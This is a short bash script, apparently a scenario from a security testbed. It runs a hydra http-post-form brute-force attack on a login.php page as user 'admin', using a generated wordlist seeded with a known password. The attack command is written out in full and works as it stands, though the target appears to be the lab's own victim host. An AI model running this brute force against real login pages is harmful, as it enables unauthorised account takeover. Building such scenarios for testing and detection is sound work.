#!/usr/bin/env bash
# Web login brute force with hydra http-post-form against login.php (stops at the first success).
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
wordlist="$TB_STATE/web-wordlist.txt"
TB_PASS=letmein2018 tb_wordlist "$wordlist" "$TB_COUNT"
tb_run "$TB_NS" hydra -I -f -t 4 -l admin -P "$wordlist" "$TB_VICTIM" http-post-form \
  "/login.php:username=^USER^&password=^PASS^:F=Login failed" > "$TB_STATE/hydra-web.log" 2>&1
